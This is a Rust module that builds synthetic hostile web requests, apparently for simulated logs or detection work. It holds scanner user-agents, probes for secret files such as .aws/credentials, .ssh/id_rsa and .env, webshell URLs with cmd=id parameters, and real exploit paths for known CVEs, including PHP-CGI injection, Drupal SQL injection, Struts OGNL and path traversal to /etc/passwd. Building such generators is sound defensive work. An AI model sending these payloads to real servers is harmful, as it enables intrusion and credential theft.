//! Attacks by path: what should not lie on a server, what is known to be broken, and what is no request at all.

use super::super::format::{Request, number};
use super::super::vocabulary::Class;
use super::{Answer, Tool, word};
use crate::random::Random;
use std::io::Write;

/// How scanners of these years call themselves.
pub(super) const SCANNERS: [&str; 10] = [
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.0.12#stable (http://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v2.9.2 (http://wpscan.org)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Wfuzz/2.1",
    "ZmEu",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
];

/// Fills in a request; gives the usual size of the page it is aimed at, if there is one.
pub(super) fn fill(
    class: Class,
    success: bool,
    tool: &Tool,
    random: &mut Random,
    request: &mut Request,
) -> Option<u64> {
    let out = &mut request.target;
    match class {
        Class::SecretProbe => secret(random, out),
        Class::KnownCve => known(tool, random, request),
        Class::AdminProbe => admin(random, out),
        Class::WebShell => shell(success, tool, random, request),
        Class::ForcedBrowsing => browse(random, out),
        Class::Malformed => malformed(random, request),
        Class::UserEnumeration => return enumerate(random, out),
        Class::Flood => {
            let _ = write!(out, "/?{}={}", word(random), random.below(1 << 40));
            return Some(42_300);
        }
        Class::ProxyAbuse => {
            if random.chance(0.4) {
                (request.method, request.version) = ("CONNECT", "HTTP/1.0");
                let _ = write!(out, "mail.{}.example:{}", word(random), random.pick(&["25", "443", "465", "6667"]));
                return None;
            }
            let _ = write!(out, "http://check.{}.example/ip{}.php", word(random), random.below(99));
            return Some(42_300);
        }
        _ => return scan(random, out),
    }
    None
}

/// What a success looks like: an answer unlike any that this path has had.
pub(super) fn success(class: Class, usual: u64, random: &mut Random) -> Answer {
    let bytes = match class {
        Class::SqlInjection => usual * random.range(4, 9) + random.below(5_000),
        Class::SecretProbe => random.range(180_000, 9_000_000),
        Class::PathTraversal | Class::FileInclusion => random.range(1_100, 3_400),
        _ => random.range(40, 900),
    };
    Answer { status: 200, bytes }
}

fn secret(random: &mut Random, out: &mut Vec<u8>) {
    let below = random.pick(&["", "", "", "/site", "/old", "/www", "/wp", "/api", "/backup"]);
    let name = random.pick(&["backup", "dump", "site", "db", "www", "database", "export", "adherents"]);
    let _ = match random.below(16) {
        0 => write!(out, "{below}/.git/config"),
        1 => write!(out, "{below}/.git/HEAD"),
        2 => write!(out, "{below}/.env"),
        3 => write!(out, "{below}/wp-config.php{}", random.pick(&[".bak", "~", ".old", ".save", ".swp", ".txt"])),
        4 => write!(out, "{below}/{name}.sql"),
        5 => write!(out, "{below}/{name}.sql.gz"),
        6 => write!(out, "{below}/{name}.tar.gz"),
        7 => write!(out, "{below}/{name}.zip"),
        8 => write!(out, "{below}/.svn/entries"),
        9 => write!(out, "{below}/.htpasswd"),
        10 => write!(out, "{below}/.aws/credentials"),
        11 => write!(out, "{below}/.ssh/id_rsa"),
        12 => write!(out, "{below}/.env.{}", random.pick(&["bak", "local", "production", "old"])),
        13 => write!(out, "{below}/configuration.php{}", random.pick(&[".bak", "~", ".old", ".save"])),
        14 => write!(out, "{below}/.git/logs/HEAD"),
        _ => write!(out, "{below}/config.php{}", random.pick(&[".bak", "~", ".old"])),
    };
}

/// Year from which it was known, path. Numbers: CVE-2012-1823, 2014-9734, 2015-7501, 2016-6277, 2013-… and so on, as
/// the National Vulnerability Database lists them; the paths are those that honeypots report.
const KNOWN: [(i16, &str); 22] = [
    (2012, "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
    (2012, "/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E"),
    (2014, "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"),
    (2011, "/wp-content/themes/{w}/timthumb.php?src=http://blogger.com.{w}.example/x.php"),
    (2015, "/invoker/JMXInvokerServlet"),
    (2010, "/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo"),
    (2016, "/cgi-bin/;uname$IFS-a"),
    (2009, "/phpmyadmin/scripts/setup.php"),
    (2014, "/?q=node&destination=node&name[0%20;update%20users%20set%20name%3d%27{w}%27;--]=1"),
    (2015, "/index.php?option=com_contenthistory&view=history&list[select]=extractvalue(1,concat(0x5c,version()))"),
    (2017, "/wp-json/wp/v2/posts/{n}?id={n}abc"),
    (2013, "/struts2-showcase/showcase.action?redirect:${%23context}"),
    (2016, "/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS"),
    (2014, "/HNAP1/"),
    (2017, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (2018, "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    (2018, "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={n}"),
    (2018, "/GponForm/diag_Form?images/"),
    (2019, "/vpn/../vpns/cfg/smb.conf"),
    (2020, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
    (2021, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    (2021, "/autodiscover/autodiscover.json?@{w}.example/owa/?&Email=autodiscover/autodiscover.json%3F@{w}.example"),
];

fn known(tool: &Tool, random: &mut Random, request: &mut Request) {
    let path = loop {
        let (year, path) = KNOWN[random.below(KNOWN.len() as u64) as usize];
        // Some are as old as any exercise; a scenario set before 2009 gets those.
        if year <= tool.year.max(2009) {
            break path;
        }
    };
    if path.contains("eval-stdin") || path.contains("allow_url") {
        request.method = "POST";
    }
    let (w, n) = (word(random), random.range(1, 400).to_string());
    request.target.extend_from_slice(path.replace("{w}", w).replace("{n}", &n).as_bytes());
}

fn admin(random: &mut Random, out: &mut Vec<u8>) {
    let pma =
        random.pick(&["phpmyadmin", "pma", "phpMyAdmin", "myadmin", "mysqladmin", "dbadmin", "PMA", "sqlmanager"]);
    let _ = match random.below(10) {
        0 | 1 => write!(out, "/{pma}/"),
        2 => write!(out, "/{pma}/index.php"),
        3 => write!(out, "/phpMyAdmin-{}.{}.{}/", random.range(2, 4), random.below(9), random.below(12)),
        4 => write!(out, "/administrator/index.php"),
        5 => write!(out, "/manager/html"),
        6 => write!(out, "/admin/login.php"),
        7 => write!(out, "/adminer{}.php", random.pick(&["", "-4.2.5", "-4.3.1", "-4.7.7"])),
        8 => write!(out, "/wp-admin/setup-config.php?step={}", random.below(3)),
        _ => write!(out, "/webmin/session_login.cgi"),
    };
}

const SHELLS: [&str; 12] =
    ["c99", "r57", "wso", "b374k", "alfa", "shell", "cmd", "webshell", "mini", "indoxploit", "wso2", "c100"];

fn shell(success: bool, tool: &Tool, random: &mut Random, request: &mut Request) {
    let shell = SHELLS[(Random::mix(tool.shell) % 12) as usize];
    let month = tool.shell % 12 + 1;
    let (out, planted) = (&mut request.target, format!("/wp-content/uploads/{}/{month:02}/{shell}.php", tool.year));
    if success {
        request.method = if random.chance(0.5) { "POST" } else { "GET" };
        let _ = write!(out, "{planted}?cmd={}", random.pick(&["id", "whoami", "uname+-a", "pwd", "ls+-la"]));
        return;
    }
    let name = random.pick(&SHELLS);
    let _ = match random.below(6) {
        0 => write!(out, "/{name}.php"),
        1 => write!(out, "/wp-content/uploads/{}/{:02}/{name}.php?cmd=id", tool.year, random.range(1, 12)),
        2 => write!(out, "/images/{name}.php?act=ls"),
        3 => write!(out, "/wp-includes/{name}.php"),
        4 => write!(out, "/uploads/{name}.php?c=whoami"),
        _ => write!(out, "/tmp/{name}.php"),
    };
    if random.chance(0.3) {
        request.method = "POST";
    }
}

fn browse(random: &mut Random, out: &mut Vec<u8>) {
    let list = [
        "old", "test", "dev", "intranet", "staging", "private", "secret", "data", "files", "upload", "include", "temp",
        "beta", "demo", "internal", "members", "archive", "logs", "docs", "console", "portal", "stats", "export",
        "sql", "hidden", "download", "new", "cache", "lib", "src", "bin", "users",
    ];
    let _ = match random.below(4) {
        0 => write!(out, "/{}/", random.pick(&list)),
        1 => write!(out, "/{}/{}/", random.pick(&list), random.pick(&list)),
        2 => write!(out, "/{}{}.php", random.pick(&list), random.below(20)),
        _ => write!(out, "/{}_{}.html", random.pick(&list), random.pick(&list)),
    };
}

fn enumerate(random: &mut Random, out: &mut Vec<u8>) -> Option<u64> {
    match random.below(5) {
        0..=2 => {
            out.extend_from_slice(b"/?author=");
            number(out, random.range(1, 25));
            return Some(42_300);
        }
        3 => out.extend_from_slice(b"/wp-json/wp/v2/users"),
        _ => {
            let _ = write!(out, "/~{}", random.pick(&["root", "admin", "ftp", "backup", "webmaster", "nobody"]));
        }
    }
    None
}

/// A scanner's tests: odd files, and the front page for its banner.
fn scan(random: &mut Random, out: &mut Vec<u8>) -> Option<u64> {
    let _ = match random.below(6) {
        0 => {
            out.push(b'/');
            return Some(42_300);
        }
        1 => {
            write!(out, "/{}{}.{}", word(random), random.below(9999), random.pick(&["asp", "cgi", "jsp", "cfm", "pl"]))
        }
        2 => write!(out, "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
        3 => write!(out, "/cgi-bin/{}{}.cgi", word(random), random.below(99)),
        4 => write!(out, "/w00tw00t.at.{}.test:)", word(random)),
        _ => write!(out, "/.{}{}", word(random), random.below(999)),
    };
    None
}

/// Other protocols spoken to a web server, and requests that are none.
fn malformed(random: &mut Random, request: &mut Request) {
    (request.method, request.version) = ("", "");
    request.agent.clear();
    let out = &mut request.target;
    match random.below(5) {
        0 => {
            out.extend_from_slice(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03");
            out.extend((0..8).map(|_| random.bits() as u8 | 0x80));
        }
        1 => {
            out.extend_from_slice(b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=");
            out.extend_from_slice(word(random).as_bytes());
        }
        2 => _ = write!(out, "SSH-2.0-Go{}", random.below(99)),
        3 => {
            out.extend_from_slice(b"\x05\x01\x00");
            out.extend((0..4).map(|_| random.bits() as u8 | 0x80));
        }
        _ => {
            out.extend_from_slice(b"\x00\x0e8");
            out.extend((0..12).map(|_| random.bits() as u8 | 0x80));
        }
    }
}
